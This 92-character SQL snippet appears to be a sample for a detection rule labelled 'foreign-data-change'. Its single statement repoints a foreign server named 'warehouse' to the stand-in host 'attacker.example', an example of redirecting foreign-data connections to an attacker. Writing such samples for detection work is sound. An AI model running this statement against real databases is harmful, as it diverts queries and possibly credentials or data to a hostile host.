-- rules: foreign-data-change
ALTER SERVER warehouse OPTIONS (SET host 'attacker.example');
